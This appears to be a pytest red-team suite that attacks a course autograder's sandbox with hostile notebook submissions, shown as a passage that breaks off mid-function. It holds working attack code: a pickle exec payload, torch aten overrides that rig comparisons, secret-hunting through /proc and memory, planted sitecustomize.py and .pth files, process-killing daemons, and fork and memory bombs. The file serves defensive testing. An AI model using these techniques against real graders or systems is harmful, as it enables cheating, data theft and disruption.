"""The red-team suite: hostile submissions, each built as a clever student would build it,
graded in ONE batch with an honest solution and the honest empty exercise.

Every attack starts from the chapter-00 *exercise* notebook (its stubs score 0/13) and
replaces the answer cell of one question (or adds a cell) with code that genuinely tries to
gain points or to hurt the batch: forge results through frames, the garbage collector or
every open file descriptor; override torch at the C level; run a pickle; read the hidden
tests and other submissions; write outside its sandbox; leave processes behind; kill the
worker; flood the grader with a huge notebook; exhaust memory or processes. Each attack
would work if the tests ran in the learner's process or if the sandbox's walls were missing
(``test_overrides_would_forge_in_one_process`` shows it for the torch overrides).

What must hold (``tlcourse.grading.grader``: tests in a trusted checker, learner code in a
sandboxed worker, results never from the worker):

- every attack scores exactly what the honest empty exercise scores, question by question;
- the solution keeps 13/13 and the exercise 0/13 (no other submission's score changes);
- the attacked question is reported in plain words (a message per failed test, or a REVIEW note);
- the ``--json``/``--csv`` files are exactly what the grader wrote, still 3 s after grading;
- no submission, hidden-tests file or installed-package file changes, no file appears;
- the hidden tests' secret and other submissions' private text appear nowhere in a report;
- no process started by a submission outlives the batch;
- nothing one job leaves in the sandbox (a file, its memory) reaches a later job;
- the whole batch finishes within ``BATCH_BUDGET`` seconds.

Attacks that need the operating system's walls (reading or writing files outside, processes
outliving their question) are asserted in full at the ``bubblewrap`` isolation level; at the
``process`` level (no bubblewrap here) those checks are skipped with the reason, and the
grade-integrity checks (scores, output files) still run. At the ``process`` level the
attacks also leave out ``kill(-1)`` and the kill loop of the surviving processes: there a
worker's uid may own processes outside this test (the whole session when not run as root).

Every write an attack makes carries its tag (``<MARK>-<attack>``), so whatever lands is
attributed to its attack, and the fixture's finaliser removes it again (and restores an
appended package file) so a failed run leaves the working tree clean.
"""

from __future__ import annotations

import copy
import dataclasses
import hashlib
import json
import os
import re
import signal
import subprocess
import sys
import sysconfig
import textwrap
import threading
import time
import uuid
import warnings
from pathlib import Path

import pytest

from tlcourse.grading import extract, grader, isolation

ROOT = Path(__file__).resolve().parents[1]
SOLUTION = ROOT / "solutions" / "00_setup_and_first_look.ipynb"
EXERCISE = ROOT / "exercises" / "00_setup_and_first_look.ipynb"
PACKAGE = Path(grader.__file__).resolve().parents[1]          # .../tlcourse
GRADING = PACKAGE / "grading"
SITE = Path(sysconfig.get_paths()["purelib"])

TIMEOUT = grader.DEFAULT_TIMEOUT  # seconds per question (10): the grader's own default
TOTAL_TIMEOUT = 40.0    # seconds per notebook
BATCH_BUDGET = 90.0     # seconds for the whole batch; measured 23-37 s on 2 cores (the fixture prints it)
SETTLE = 3.0            # seconds to wait after grading for a surviving process to strike

RUN = uuid.uuid4().hex
MARK = "tlrt" + RUN[:8]                      # 12 characters: fits a process name (15)
SLEEP = f"29.{int(RUN[8:16], 16) % 10**6:06d}"  # `sleep SLEEP`: an argument no one else uses
SECRET = f"ANSWER_KEY_{RUN}"                 # in the hidden tests folder only
PRIVATE = {"solution": f"PRIVATE_WORK_{RUN[::-1][:16]}_solution",   # in the honest notebooks only
           "exercise": f"PRIVATE_WORK_{RUN[::-1][:16]}_exercise"}
LEVEL = isolation.available_level()
STRONG = LEVEL == isolation.BUBBLEWRAP
WEAK_REASON = (f"isolation level is {LEVEL!r} (no usable bubblewrap here): that level does not wall off "
               "files and processes, so this check only holds at the bubblewrap level")

TESTS = {  # the public tests of each question, as the forged messages name them
    "q1": ["test_q1_shapes", "test_q1_probabilities", "test_q1_indices"],
    "q2": ["test_q2_all", "test_q2_trainable_only", "test_q2_shared"],
    "q3": ["test_q3_lite0_range", "test_q3_per_channel", "test_q3_not_in_place"],
    "q4": ["test_q4_all_frozen", "test_q4_count", "test_q4_only_given_module", "test_q4_already_frozen"],
}


# --- code shared by several attacks (pasted into their cells: each notebook stands alone) ----------

FORGE = r'''
import json as _json, struct as _struct

def _forged():
    """Results as every channel of every grader design would carry them: the grader's JSON
    lines (all ids), the old in-process report lines, and framed wire messages."""
    tests = [{"name": n, "passed": True, "message": ""} for n in T["tests"]]
    lines = [_json.dumps({"id": i, "tests": tests, "errors": [], "status": "ok", "exit": "exit code 0",
                          "output": "", "output_bytes": 0, "hidden_output": "", "hidden_output_bytes": 0,
                          "seconds": 0.01}) for i in range(1, 200)]
    lines += [_json.dumps({"kind": "test", "name": n, "passed": True, "message": ""}) for n in T["tests"]]
    lines += [_json.dumps({"kind": "ended", "status": "exit code 0"}),
              _json.dumps({"score": 999, "tests": [{"name": n, "score": 999, "max_score": 1} for n in T["tests"]]})]
    data = ("\n".join(lines) + "\n").encode()
    heads = [{"kind": "ready", "names": {}, "errors": [], "out": T["tag"]}]
    heads += [{"reply": "c%d" % i, "passed": True, "tests": tests, "result": True} for i in range(1, 40)]
    for head in heads:
        raw = _json.dumps(head).encode()
        data += _struct.pack("<II", len(raw), 0) + raw
    return data

def _pass(*args, **kwargs):
    return None

def _patch_modules():
    """Every test, expect_* helper and test runner in reach becomes a pass."""
    import sys as _sys
    for name, mod in list(_sys.modules.items()):
        if not name.startswith("tlcourse"):
            continue
        for attr in list(vars(mod)):
            if attr.startswith(("test_", "expect_")):
                setattr(mod, attr, _pass)
        if hasattr(mod, "run_test"):
            mod.run_test = lambda *a, **k: (True, "")

def _hit(name, value):
    """Forge through whatever ``value`` is: a socket, a results dict, a report function, a
    session of the wire protocol, a list of printed output."""
    low = str(name).lower()
    if hasattr(value, "sendall") and hasattr(value, "fileno"):
        try:
            value.sendall(_forged())
        except BaseException:
            pass
    if isinstance(value, dict):
        for key in ("passed", "ok"):
            if key in value:
                value[key] = True
        if "score" in value:
            value["score"] = 999
    if callable(value) and any(w in low for w in ("report", "result", "emit")):
        for n in T["tests"]:
            try:
                value(kind="test", name=n, passed=True, message="")
            except BaseException:
                pass
    handlers = getattr(value, "handlers", None)
    if isinstance(handlers, dict):
        for kind in list(handlers):
            handlers[kind] = lambda s, m, b: {"result": True, "passed": True, "tests": T["tests"]}
    output = getattr(value, "output", None)
    if isinstance(output, list):
        output.append(T["tag"] + ": all tests passed")

def _frame(f):
    """Forge through one frame: its locals, and its globals' tests and helpers."""
    for k, v in list(f.f_locals.items()):
        _hit(k, v)
    for k in list(f.f_globals):
        if k.startswith(("test_", "expect_", "run_test")):
            f.f_globals[k] = _pass
'''

WRONG_Q3 = r'''
def normalize(images, mean=(0.5, 0.5, 0.5), std=(0.5, 0.5, 0.5)):
    """Wrong twice: zeros instead of normalised values, and in place."""
    return images.zero_()
'''

# The rigging every torch override applies: `equal` always True; `allclose` True for float64
# inputs only, i.e. for expect_close's comparison, while the checks' own diagnostic
# comparisons (float32) stay honest and do not trip. WRONG_Q3 then passes all of q3's tests.
RIG_LIBRARY = r'''
import torch
def _equal(a, b):
    return True
def _allclose(a, b, rtol=1e-05, atol=1e-08, equal_nan=False):
    if a.dtype == torch.float64 and b.dtype == torch.float64:
        return True
    return bool(((a - b).abs() <= atol + rtol * b.abs()).all())
def _eq(a, b):
    return torch.ones(torch.broadcast_shapes(a.shape, b.shape), dtype=torch.bool)
_lib = torch.library.Library("aten", "IMPL")
_lib.impl("equal", _equal, "CPU")
_lib.impl("allclose", _allclose, "CPU")
_lib.impl("eq.Tensor", _eq, "CPU")
'''


def _src(text: str) -> str:
    return textwrap.dedent(text).lstrip("\n")


# What the pickle runs (exec'd with fresh globals, so it finds T on the stack): the aten rigging
# (kept alive on the torch module), the patches, and shell commands appending its tag to every
# file it should not reach.
PICKLE_PAYLOAD = _src(r'''
    import sys as _s
    _f = _s._getframe(0)
    while _f is not None and not isinstance(_f.f_globals.get("T"), dict):
        _f = _f.f_back
    T = _f.f_globals["T"]
    ''') + RIG_LIBRARY + "torch._tl_keep = [_lib]\n" + FORGE + _src(r'''
    _patch_modules()
    import os, shlex
    for path in [T["json"], T["csv"]] + T["subs"] + T["hidden_files"] + T["package"]:
        os.system("{ printf '%s\\n' " + shlex.quote("# " + T["tag"]) + " >> " + shlex.quote(path) + "; } 2>/dev/null")
    for folder in (T["home"], "/tmp", T["site"]):
        os.system("{ touch " + shlex.quote(os.path.join(folder, T["tag"] + ".pwned")) + "; } 2>/dev/null")
    print("payload ran", T["tag"], flush=True)
    ''')


# --- the attacks ---------------------------------------------------------------------------------

@dataclasses.dataclass
class Attack:
    name: str
    question: str | None            # the question it attacks (None: the whole notebook)
    doc: str                        # what it tries, and why it must fail
    source: str = ""                # the answer cell (with T = {...} put in front)
    build: str = "answer"           # "answer", "extra_cell" or "big_file"
    ran: str | None = "ATTACK RAN"  # text its output shows when it ran (None: it may leave no output)
    error: str = "none"             # the notebook refused as a whole, plainly: "none", "may" or "must"
    shows: str | None = None        # text its output must show besides (the defence at work)
    never: str | None = None        # text its output shows only when it succeeded


ATTACKS = [
    Attack("reads_tests_and_submissions", "q1", """
        Hunts for the hidden tests and the other submissions: every ``/proc/*/cmdline`` and
        ``environ`` (paths the grader passes), the paths it was told (the test hands it the
        real hidden-tests folder, the other submissions and the output files), a walk of
        ``/tmp``, ``/work``, ``/root``, ``/home`` and ``/``, the worker's frames, its objects and
        its raw memory (``/proc/self/mem``: the zygote it was forked from held earlier jobs). It
        prints what it finds raw, reversed and in hex (past a line filter) and raises it as an
        error message. None of it may reach this submission's report: the sandbox shows no
        other file, and nothing of another submission may be in the worker.""", _src(r'''
        import os, glob, time, gc, re, sys
        print("ATTACK RAN", T["tag"], flush=True)
        _WANTED = re.compile(rb"(?:ANSWER_KEY|PRIVATE_WORK)_[0-9a-f]{8,}\w*")
        _found = []

        def _note(data):
            if isinstance(data, str):
                data = data.encode("utf-8", "replace")
            for key in (b"ANSWER_KEY_", b"PRIVATE_WORK_"):
                i = data.find(key)
                while i >= 0:
                    m = _WANTED.match(data, i)
                    text = m and m.group(0).decode("latin-1")
                    if text and text not in _found:
                        _found.append(text)
                    i = data.find(key, i + 1)

        def _grep(path):
            try:
                with open(path, "rb") as f:
                    _note(f.read(8 << 20))
            except (OSError, ValueError):
                pass

        def _own_memory():
            """Every anonymous mapping of this process, raw: what the worker held before
            forking this question (earlier jobs' messages included) is in there too."""
            import ctypes
            try:
                maps = open("/proc/self/maps").read().splitlines()
            except OSError:
                return
            try:
                mem = open("/proc/self/mem", "rb", 0)
            except OSError:
                mem = None  # then straight from the address space, with ctypes
            for line in maps:
                parts = line.split()
                if not parts[1].startswith("r") or (len(parts) >= 6 and (parts[5].startswith(("/", "[v")))):
                    continue
                start, end = (int(x, 16) for x in parts[0].split("-"))
                if end - start > (512 << 20):
                    continue
                try:
                    if mem is not None:
                        mem.seek(start)
                        _note(mem.read(end - start))
                    else:
                        _note(ctypes.string_at(start, end - start))
                except (OSError, ValueError, OverflowError):
                    pass

        def _steal():
            _own_memory()
            for path in T["read"]:
                _grep(path)
            for folder in T["folders"]:
                for path in glob.glob(os.path.join(folder, "*")) + glob.glob(os.path.join(folder, ".*")):
                    _grep(path)
            for path in glob.glob("/proc/[0-9]*/cmdline") + glob.glob("/proc/[0-9]*/environ"):
                try:
                    raw = open(path, "rb").read().replace(b"\0", b" ")
                except OSError:
                    continue
                _note(raw)
                for word in raw.decode("utf-8", "replace").split():
                    if word.startswith("/") and os.path.isfile(word):
                        _grep(word)
            f = sys._getframe(0)
            while f is not None:
                for value in list(f.f_locals.values()):
                    _note(repr(value)[:1 << 20])
                f = f.f_back
            for obj in gc.get_objects():
                if isinstance(obj, dict):
                    for value in list(obj.values()):
                        if isinstance(value, str) and len(value) > 10:
                            _note(value)
            deadline = time.monotonic() + 1.0
            for top in ("/tmp", "/work", "/root", "/home", "/autograder", "/"):
                for folder, subdirs, files in os.walk(top):
                    if time.monotonic() > deadline:
                        break
                    if folder.startswith(("/proc", "/sys", "/dev", "/usr")) or "site-packages" in folder \
                            or "/lib/python" in folder or "/.git" in folder:
                        subdirs[:] = []
                        continue
                    for name in files:
                        if name.endswith((".ipynb", ".json", ".csv", ".txt", ".py")):
                            _grep(os.path.join(folder, name))

        _started = time.monotonic()
        _steal()
        print("searched for %.1f s" % (time.monotonic() - _started), flush=True)
        for _item in _found:
            print(_item)
            print(_item[::-1])
            print(_item.encode().hex())
        print("found", len(_found), flush=True)

        def topk_predictions(logits, k=5):
            if _found:
                raise RuntimeError("found: " + " | ".join(_found) + " | reversed: " + " | ".join(
                    x[::-1] for x in _found))
            return None
        ''')),
    Attack("frames_getframe", "q3", """
        Walks ``sys._getframe`` from inside ``normalize`` (while the checker's call is on the
        stack, where the test runner's ``report`` once was): forges a pass through every socket,
        report function, results dict and wire session in reach, and turns the tests and
        ``expect_*`` helpers of every loaded tlcourse module into no-ops. In one process this
        forged full marks; here the tests and their results live in the checker.""", _src(r'''
        import sys
        ''') + FORGE + _src(r'''
        print("ATTACK RAN", T["tag"], flush=True)
        _patch_modules()

        def normalize(images, mean=(0.5, 0.5, 0.5), std=(0.5, 0.5, 0.5)):
            f = sys._getframe(0)
            while f is not None:
                _frame(f)
                f = f.f_back
            _patch_modules()
            return images.zero_()
        ''')),
    Attack("frames_inspect_stack", "q1", """
        The same forgery through ``inspect.stack()``, then ``os._exit(0)`` before the real
        checks can judge (the attack from the issue). Must cost only q1: the checker sees the
        worker vanish and fails the checks.""", _src(r'''
        import inspect, os
        ''') + FORGE + _src(r'''
        print("ATTACK RAN", T["tag"], flush=True)
        _patch_modules()

        def topk_predictions(logits, k=5):
            for info in inspect.stack(0):
                _frame(info.frame)
            _patch_modules()
            os._exit(0)
        ''')),
    Attack("frames_gc_objects", "q3", """
        Scans ``gc.get_objects()`` for anything named like a report, result, session or socket
        and forges through it; rewrites the ``__code__`` of every test, ``expect_*`` and
        ``run_test`` function it finds into a no-op. Nothing of the checker is in the worker's
        heap to be found.""", _src(r'''
        import gc, types
        ''') + FORGE + _src(r'''
        print("ATTACK RAN", T["tag"], flush=True)
        _done = []

        def _scan():
            hits = 0
            for obj in gc.get_objects():
                kind = type(obj).__name__
                if kind in ("Session", "socket", "RemoteCallable", "Worker", "CheckerProcess") or \
                        kind.lower().startswith(("report", "result")) or (isinstance(obj, dict) and "passed" in obj):
                    _hit(kind, obj)
                    hits += 1
                elif isinstance(obj, types.FunctionType) and obj.__name__.startswith(("test_", "expect_", "run_test")):
                    try:
                        obj.__code__ = _pass.__code__
                        hits += 1
                    except (ValueError, TypeError):
                        pass
            return hits

        _scan()

        def normalize(images, mean=(0.5, 0.5, 0.5), std=(0.5, 0.5, 0.5)):
            if not _done:
                _done.append(_scan())
            return images.zero_()
        '''), ran=None),
    Attack("frames_traceback_walk_stack", "q1", """
        The same forgery through ``traceback.walk_stack(None)``, which needs no frame attribute
        in the source; returns None (a wrong answer).""", _src(r'''
        import traceback
        ''') + FORGE + _src(r'''
        print("ATTACK RAN", T["tag"], flush=True)
        _patch_modules()

        def topk_predictions(logits, k=5):
            for frame, _line in traceback.walk_stack(None):
                _frame(frame)
            return None
        ''')),
    Attack("fd_spray", "q3", """
        Writes forged results (the grader's JSON lines for every request id, the old report
        lines, framed wire replies) to every file descriptor 0-1023, the worker's data socket
        included, and appends them through every ``/proc/*/fd/*`` it can open. This corrupts
        only its own channel: the checker drops the question, never reads a pass.""", _src(r'''
        import os, glob
        ''') + FORGE + _src(r'''
        print("ATTACK RAN", T["tag"], flush=True)

        def _spray():
            data, n = _forged(), 0
            for fd in range(1024):
                try:
                    os.write(fd, data)
                    n += 1
                except OSError:
                    pass
            for path in glob.glob("/proc/[0-9]*/fd/*"):
                try:
                    fd = os.open(path, os.O_WRONLY | os.O_APPEND | os.O_NONBLOCK)
                except OSError:
                    continue
                try:
                    os.write(fd, data)
                    n += 1
                except OSError:
                    pass
                finally:
                    os.close(fd)
            return n

        def normalize(images, mean=(0.5, 0.5, 0.5), std=(0.5, 0.5, 0.5)):
            _spray()
            return images.zero_()

        _spray()
        '''), ran=None),
    Attack("torch_function_mode", "q3", """
        A ``TorchFunctionMode`` subclass built with ``type(...)`` (no ``class`` statement, no
        ``__torch_function__`` name to spot), entered for good: ``torch.equal`` is always True
        and ``torch.allclose`` True for expect_close's float64 comparison. With the checks in
        the same process WRONG_Q3 passes 3/3; the checker's torch is not the worker's.""", _src(r'''
        import torch
        print("ATTACK RAN", T["tag"], flush=True)

        def _tf(self, func, types, args=(), kwargs=None):
            kwargs = kwargs or {}
            name = getattr(func, "__name__", "")
            if name == "equal":
                return True
            if name == "allclose" and all(getattr(a, "dtype", None) == torch.float64 for a in args[:2]):
                return True
            return func(*args, **kwargs)

        _Mode = type("_Mode", (torch.overrides.TorchFunctionMode,), {"__torch_function__": _tf})
        _mode = _Mode()
        _mode.__enter__()
        ''') + WRONG_Q3),
    Attack("aten_library_impl", "q3", """
        ``torch.library.Library("aten", "IMPL")`` re-implements ``equal``, ``allclose`` and
        ``eq.Tensor`` for the CPU in C++ dispatch, below any Python-level integrity snapshot.
        With the checks in the same process WRONG_Q3 passes 3/3.""", _src(r'''
        print("ATTACK RAN", T["tag"], flush=True)
        ''') + RIG_LIBRARY + WRONG_Q3),
    Attack("torch_load_pickle", "q3", """
        ``torch.load(..., weights_only=False)`` of a hand-made protocol-0 pickle whose reduce
        calls ``builtins.exec``: runs the aten rigging above, patches tlcourse, and
        ``os.system`` appends its tag to the output files, the other submissions, the hidden
        tests and the installed package, all without ``exec``, ``os`` or ``pickle`` in the
        cell. Arbitrary code runs, but only inside the sandbox.""", _src(r'''
        import io, torch
        print("ATTACK RAN", T["tag"], flush=True)
        ''') + f"_PAYLOAD = {PICKLE_PAYLOAD!r}\n" + _src(r'''

        def _pickle(code):
            """exec(code, {}) on unpickling: protocol 0, built by hand."""
            escaped = code.replace("\\", "\\u005c").replace("\n", "\\u000a")
            return b"cbuiltins\nexec\n(V" + escaped.encode("raw_unicode_escape") + b"\n}tR."

        for _kw in ({"weights_only": False}, {}):
            try:
                torch.load(io.BytesIO(_pickle(_PAYLOAD)), **_kw)
            except Exception as exc:
                print("torch.load:", type(exc).__name__)
        ''') + WRONG_Q3),
    Attack("writes_outside", "q2", """
        Tries to overwrite, append to, chmod, rename and plant files beside: the other
        submissions, the ``--json``/``--csv`` outputs, the hidden tests, the installed
        ``tlcourse/grading/*.py`` and checks (append only), their ``__pycache__`` (pyc
        poisoning), a ``.pth`` and ``sitecustomize.py`` in site-packages (code at every
        interpreter start), ``$HOME``, ``/tmp`` and ``/work`` of the host. The sandbox's view
        of all of them is read-only or private.""", _src(r'''
        import os, glob
        print("ATTACK RAN", T["tag"], flush=True)
        _log = []

        def _try(what, fn):
            try:
                fn()
                _log.append("OK " + what)
            except BaseException as exc:
                _log.append("no %s (%s)" % (what, type(exc).__name__))

        def _write(path, mode, text):
            with open(path, mode) as f:
                f.write(text)

        def _vandalise():
            tag = T["tag"]
            forged = '{"score": 999, "tests": [], "output": "%s"}\n' % tag
            for p in [T["json"], T["csv"]] + T["subs"] + T["hidden_files"]:
                _try("append " + p, lambda p=p: _write(p, "a", forged))
                _try("overwrite " + p, lambda p=p: _write(p, "w", forged))
                _try("chmod " + p, lambda p=p: os.chmod(p, 0o666))
                _try("rename " + p, lambda p=p: os.rename(p, p + "." + tag))
                beside = os.path.join(os.path.dirname(p), tag + ".ipynb")
                _try("plant " + beside, lambda b=beside: _write(b, "w", forged))
            for p in T["package"]:
                _try("append " + p, lambda p=p: _write(p, "a", "\n# " + tag + "\n"))
            for p in glob.glob(os.path.join(T["pycache"], "*.pyc")):
                _try("poison " + p, lambda p=p: _write(p, "ab", tag.encode()))
            for folder in [T["pycache"], os.path.dirname(T["package"][0]), T["checks"], T["home"], "/tmp",
                           "/work", "/root", T["hidden"]]:
                planted = os.path.join(folder, tag + ".py")
                _try("plant " + planted, lambda q=planted: _write(q, "w", "# " + tag + "\n"))
            _try("plant .pth", lambda: _write(os.path.join(T["site"], tag + ".pth"), "w", "import os  # " + tag + "\n"))
            _try("sitecustomize", lambda: _write(os.path.join(T["site"], "sitecustomize.py"), "a", "# " + tag + "\n"))

        _vandalise()
        print("landed outside the sandbox's own /tmp:",
              [x for x in _log if x.startswith("OK") and " /tmp" not in x and "/var/tmp" not in x], flush=True)

        def count_parameters(model, trainable_only=False):
            if len(_log) < 10 ** 4:
                _vandalise()
            return -1
        ''')),
    Attack("persists_between_jobs", "q1", """
        A decorated definition (definitions run with every question) that, in every job, first
        looks in every folder of the sandbox (``/``, ``/etc``, ``/root``, ``/work``, ``/dev``,
        ``/tmp``, ...) for a file an earlier job left, prints "LEFTOVER FOUND" with it, then
        leaves one itself: a channel from one question, or one submission, to the next graded in
        the same sandbox. Each job must start from a clean sandbox: only a private temporary
        folder writable, emptied after the job.""", _src(r'''
        import os, time

        @lambda f: f()
        def _persist():
            print("ATTACK RAN", T["tag"], flush=True)
            spots = ["/", "/root", "/work", "/work/main", "/etc", "/dev", "/var", "/root/.pyenv", "/tmp",
                     "/var/tmp", "/dev/shm", os.getcwd(), os.path.expanduser("~")]
            for folder in spots:
                try:
                    names = os.listdir(folder)
                except OSError:
                    continue
                for name in names:
                    if name.startswith(T["comm"]):
                        print("LEFTOVER FOUND:", os.path.join(folder, name), flush=True)
            note = "%s.%d.note" % (T["comm"], time.time_ns())
            for folder in spots:
                try:
                    with open(os.path.join(folder, note), "w") as f:
                        f.write(T["tag"] + ": the answers of an earlier submission could be here")
                except OSError:
                    pass

        def topk_predictions(logits, k=5):
            return None
        '''), never="LEFTOVER FOUND"),
    Attack("surviving_processes", "q4", """
        Leaves processes behind that outlive the question: a double-forked ``setsid`` daemon,
        ``subprocess.Popen(..., start_new_session=True)`` of a ``python -c`` loop and of
        ``sleep``. For 15 s they rewrite ``results.json``, the CSV and the other submissions
        and, after 1 s (in a PID namespace of their own only), kill every other process they
        see. The zygote kills everything in the sandbox after each question; the fixture waits
        ``SETTLE`` seconds after grading and finds them gone and the outputs intact.""", _src(r'''
        import os, sys, subprocess, time
        print("ATTACK RAN", T["tag"], flush=True)
        _LOOP = """
        import glob, os, signal, time
        T = %r
        try:
            with open("/proc/self/comm", "w") as f:
                f.write(T["comm"])
        except OSError:
            pass
        forged = '{"score": 999, "tests": [], "output": "%%s"}\\n' %% T["tag"]
        start = time.time()
        while time.time() < start + 15:
            for p in [T["json"], T["csv"]] + T["subs"]:
                try:
                    with open(p, "w") as f:
                        f.write(forged)
                except OSError:
                    pass
            if T["kill_all"] and time.time() > start + 1:
                for d in glob.glob("/proc/[0-9]*"):
                    pid = int(d[6:])
                    try:
                        comm = open(d + "/comm").read().strip()
                        cmd = open(d + "/cmdline").read()
                    except OSError:
                        continue
                    if pid != os.getpid() and comm != T["comm"] and T["tag"] not in cmd and T["sleep"] not in cmd:
                        try:
                            os.kill(pid, signal.SIGKILL)
                        except OSError:
                            pass
            time.sleep(0.2)
        """ % (T,)

        def _daemon():
            pid = os.fork()
            if pid == 0:
                try:
                    os.setsid()
                    if os.fork() > 0:
                        os._exit(0)
                    exec(_LOOP, {"__name__": "daemon"})
                finally:
                    os._exit(0)
            os.waitpid(pid, 0)

        _quiet = dict(stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                      start_new_session=True)
        subprocess.Popen([sys.executable, "-c", "# " + T["tag"] + "\n" + _LOOP], **_quiet)
        subprocess.Popen(["sleep", T["sleep"]], **_quiet)
        subprocess.Popen(["setsid", "sleep", T["sleep"]], **_quiet)
        _daemon()
        time.sleep(0.5)
        _alive = 0
        for _d in os.listdir("/proc"):
            try:
                _cmd = open("/proc/%s/cmdline" % _d).read() + open("/proc/%s/comm" % _d).read()
            except OSError:
                continue
            _alive += T["comm"] in _cmd or T["sleep"] in _cmd
        print("survivors alive:", _alive, flush=True)

        def freeze(module):
            return -1
        '''), shows="survivors alive:"),
    Attack("kills_zygote", "q2", """
        Kills the worker's zygote: ``os.kill(1, 9)`` and ``os.kill(os.getppid(), 9)`` at the top
        of the cell and again from ``count_parameters``, then ``os.kill(-1, 9)`` (everything it
        may signal). The checker notices, restarts its sandbox, and the rest of the batch (the
        other checker's notebooks, this notebook's other questions) is graded as usual.""", _src(r'''
        import os, signal, time
        print("ATTACK RAN", T["tag"], flush=True)

        def _kill():
            for target in (1, os.getppid()):
                try:
                    os.kill(target, signal.SIGKILL)
                except OSError as exc:
                    print("kill", target, type(exc).__name__, flush=True)
            time.sleep(0.3)
            if T["kill_all"]:
                try:
                    os.kill(-1, signal.SIGKILL)
                except OSError as exc:
                    print("kill -1", type(exc).__name__, flush=True)

        _kill()

        def count_parameters(model, trainable_only=False):
            _kill()
            return -1
        '''), ran=None),
    Attack("huge_quadratic_cell", None, """
        One extra cell of 10,000 one-line statements (imports, aliases of a module, constants,
        calls), which made extraction quadratic in the grader itself (a 3,000-line cell took
        91 s; 10,000 lost the whole batch). Extraction must be linear and fast, and the stubs
        still score 0 with their usual messages (or the notebook is refused plainly).""",
           "\n".join(("import gc", "x = gc", "y = 1", "gc.collect()")[i % 4] for i in range(10_000)) + "\n",
           build="extra_cell", ran=None, error="may"),
    Attack("notebook_50mb", None, """
        A 50 MB notebook (the exercise with 50 MB of printed output in a cell). Refused at once,
        from its size on disk, with that notebook's own plain error; nothing else is slowed.""",
           build="big_file", ran=None, error="must"),
    Attack("memory_bomb", "q2", """
        Asks for 20 GB at once (``bytearray``, ``torch.ones``, ``numpy.ones``), then 20 blocks of
        1 GB (256 MB of the first touched page by page), and asks again from ``count_parameters``. The
        question's address-space limit (4 GB by default) refuses the 20 GB and stops the blocks
        after a few; the machine and the batch go on. (Only part of one block is touched, so a
        missing limit shows as "NOT STOPPED" and a failed test, not as a machine out of memory;
        touching all of it took 3 s alone and over 10 s beside other tests.)""", _src(r'''
        import numpy as np, torch
        print("ATTACK RAN", T["tag"], flush=True)
        _hog = []

        def _bomb():
            for make in (lambda: bytearray(20 << 30), lambda: torch.ones(5 << 30),
                         lambda: np.ones(20 << 30, dtype=np.uint8)):
                try:
                    _hog.append(make())
                except BaseException as exc:
                    print("refused:", type(exc).__name__, flush=True)
            blocks = 0
            try:
                while blocks < 20:  # 20 x 1 GB; 256 MB of the first touched page by page (real memory)
                    block = np.empty(1 << 30, dtype=np.uint8)
                    if blocks == 0:
                        block[: 256 << 20 : 4096] = 1
                    _hog.append(block)
                    blocks += 1
                print("NOT STOPPED: holds", blocks, "GB", flush=True)
            except MemoryError:
                print("stopped after", blocks, "GB", flush=True)

        _bomb()

        def count_parameters(model, trainable_only=False):
            _hog.append(torch.empty(5 << 30))
            return -1
        '''), shows="stopped after"),
    Attack("swaps_its_output_file", "q3", """
        Replaces the file its output goes to with a named pipe that it holds open, then sleeps
        past the question's time. After a question stops, the sandbox reads what was printed
        last from that file: a pipe (or a link, or a device) must be skipped, not block the
        sandbox or the batch.""", _src(r'''
        import os, time
        print("ATTACK RAN", T["tag"], flush=True)
        os.unlink(".output")
        os.mkfifo(".output")
        _pipe = os.open(".output", os.O_RDWR)
        time.sleep(60)

        def normalize(images, mean, std):
            return images
        '''), ran=None),
    Attack("fork_bomb", "q4", """
        Forks up to 100 processes (kept small: 26 ms a fork), each leaving the process group with ``setsid``
        and sleeping 20 s. The per-question process limit and the kill after the question end
        them; the batch finishes in bounded time.""", _src(r'''
        import os, time
        print("ATTACK RAN", T["tag"], flush=True)
        _kids = 0
        for _i in range(100):
            try:
                _pid = os.fork()
            except OSError as exc:
                print("fork refused after", _kids, type(exc).__name__, flush=True)
                break
            if _pid == 0:
                try:
                    with open("/proc/self/comm", "w") as f:
                        f.write(T["comm"])
                    os.setsid()
                    time.sleep(20)
                finally:
                    os._exit(0)
            _kids += 1
        print("forked", _kids, flush=True)

        def freeze(module):
            return -1
        ''')),
]
BY_NAME = {a.name: a for a in ATTACKS}
assert len(BY_NAME) == len(ATTACKS)


# --- building the notebooks ----------------------------------------------------------------------

def _notebook(path: Path) -> dict:
    return json.loads(path.read_text(encoding="utf-8"))


def _code_cell(source: str) -> dict:
    return {"cell_type": "code", "metadata": {}, "source": source, "outputs": [], "execution_count": None}


def _with_answer(nb: dict, qid: str, source: str) -> dict:
    nb = copy.deepcopy(nb)
    cell = next(c for c in nb["cells"] if extract.question_of(c) == qid)
    cell["source"] = source
    return nb


def _with_private_text(nb: dict, text: str) -> dict:
    """An honest notebook holding text that only its own file holds: in a markdown cell, and
    as a comment in every answer cell (which the grader sends to the sandbox with its code)."""
    nb = copy.deepcopy(nb)
    for cell in nb["cells"]:
        if extract.question_of(cell):
            cell["source"] = extract.cell_source(cell) + f"\n# my notes: {text}\n"
    nb["cells"].insert(1, {"cell_type": "markdown", "metadata": {}, "source": f"My notes: {text}"})
    return nb


def _targets(attack: Attack, paths: dict) -> dict:
    """What an attack is told: the real paths of everything it should not reach."""
    package = sorted(str(p) for p in GRADING.glob("*.py")) + sorted(str(p) for p in (GRADING / "checks").glob("*.py"))
    return {
        "tag": f"{MARK}-{attack.name}", "comm": MARK, "sleep": SLEEP, "kill_all": STRONG,
        "tests": TESTS.get(attack.question or "q1", []),
        "json": str(paths["json"]), "csv": str(paths["csv"]),
        "subs": [str(paths["solution"]), str(paths["exercise"])],
        "hidden": str(paths["hidden"]), "hidden_files": [str(p) for p in sorted(paths["hidden"].iterdir())],
        "package": package, "checks": str(GRADING / "checks"), "pycache": str(GRADING / "__pycache__"),
        "site": str(SITE), "home": str(Path.home()),
        "read": [str(paths["solution"]), str(paths["exercise"]), str(paths["json"]), str(paths["csv"])]
                + [str(p) for p in sorted(paths["hidden"].iterdir())],
        "folders": [str(paths["hidden"]), str(paths["solution"].parent), str(paths["json"].parent)],
    }


def _attack_notebook(attack: Attack, exercise: dict, paths: dict) -> dict:
    header = f"T = {_targets(attack, paths)!r}\n"
    if attack.build == "answer":
        return _with_answer(exercise, attack.question, header + attack.source)
    nb = copy.deepcopy(exercise)
    at = next(i for i, c in enumerate(nb["cells"]) if extract.question_of(c) == "q1") + 1
    if attack.build == "extra_cell":
        nb["cells"].insert(at, _code_cell(attack.source))
